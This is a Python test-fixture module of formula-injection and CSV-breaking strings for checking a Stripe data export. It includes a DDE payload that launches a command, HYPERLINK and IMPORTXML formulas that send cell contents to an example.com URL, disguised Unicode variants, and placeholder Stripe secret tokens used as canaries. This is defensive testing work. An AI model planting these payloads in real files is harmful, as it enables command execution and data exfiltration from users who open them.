"""Texts that break spreadsheets, CSV readers and imports, each with a reason; for the export, the import and both."""

from __future__ import annotations

from typing import Any

FORMULAS = (
    "=1+1",
    "+49 30 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\tplain",
    "\rplain",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.com?"&A1;"click")',
    '=IMPORTXML(CONCAT("https://example.com?",A1),"//a")',
    "=WEBSERVICE(1)",
    "-1-1",
    "-",
    "@",
    "=",
)
# The same, where a spreadsheet looks past something, or folds a wide form.
DISGUISED = (
    " =1+1",
    "'=1+1",
    '"=1+1"',
    "' \"@x",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\u200f-2+3",
    "\x1b=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "﹣1",
    "\u22121+1",
    "\n=1+1",
    "\r\n=1+1",
)
# Behind a separator, for whoever opens the file with another one.
BEHIND = (
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a|=1+1",
    'a;"=1+1"',
    'a,"=1+1"',
    "a\n=1+1",
    "a\r\n+1+1",
    "x, -2+3",
    'x";"=1+1";"',
    '","=1+1',
    '";=1+1;"',
    ",,=1",
    ";;;",
    '""=1',
    '",=1',
    ',"-5',
    "a;'=1",
    "a,''=1",
)
# What a guard, a reader or an importer takes for something else.
LOOKALIKES = (
    "'",
    "''",
    "'Ada",
    "O'Neil",
    "'+1",
    "''=1",
    "-5",
    "-5.00",
    "-007",
    "-5,x",
    'x,-5"',
    "x;-5.0;y",
    "007",
    "1e5",
    "1,000.00",
    "TRUE",
    "NULL",
    "\\N",
    "\\.",
    "2026-01-31",
    "12/12",
    "•••",
    "nan",
    "inf",
)
AWKWARD = (
    "",
    " ",
    "  spaces  ",
    '"',
    '""',
    'say "hi"',
    ",",
    ";",
    "\n",
    "two\nlines",
    "two\r\nlines",
    "old\rmac",
    "tab\tinside",
    "Zoë Łukasz 北京 🎉",
    "e\u0301 combining",
    "\u202eright to left\u202c",
    "שלום, עולם",
    "\u2028line\u2029paragraph",
    "\x01\x02\x7f",
    "\ufffd",
    "</script><b>&amp;",
    "%s %d %(name)s {0}",
    "$$ $1 \\1",
    "_x0041_",
    "x" * 500,
    "é" * 500,
    ("=1;" * 166) + "=1",
)
TEXTS: tuple[str, ...] = (*FORMULAS, *DISGUISED, *BEHIND, *LOOKALIKES, *AWKWARD)
# What the mirror itself replaces before it stores.
UNSTORABLE = ("nul\0inside", "\0=1", "half \ud800 pair")

# Never to be seen in any file, in whatever column.
SECRETS = (
    "sk_live_" + "51Habcdefgh",
    "rk_test_" + "51Habcdefgh",
    "whsec_" + "abcdefgh",
    "pi_3Habc_secret_" + "Xyz987",
    "https://invoice.stripe.com/i/acct_1H/live_abc?s=ap",
    "https://pay.stripe.com/receipts/payment/abcdef",
)


def metadata_of(texts: tuple[str, ...]) -> list[dict[str, str]]:
    """The texts as values of metadata, fifty keys an object at most, as Stripe allows; and as keys."""
    values = [texts[start : start + 50] for start in range(0, len(texts), 50)]
    found = [{f"key {place}": text[:500] for place, text in enumerate(some)} for some in values]
    keys = [text[:40] for text in texts if text]
    return [*found, *(dict.fromkeys(keys[start : start + 50], "value") for start in range(0, len(keys), 50))]


def customers() -> list[dict[str, Any]]:
    """Stripe's customers with each text in each of their fields, and with hostile metadata."""
    fields = ("name", "email", "phone", "description")
    texts = [dict.fromkeys(fields, text) | {"metadata": {"note": text}} for text in TEXTS]
    return [*texts, *({"name": "Ada", "metadata": found} for found in metadata_of(TEXTS))]
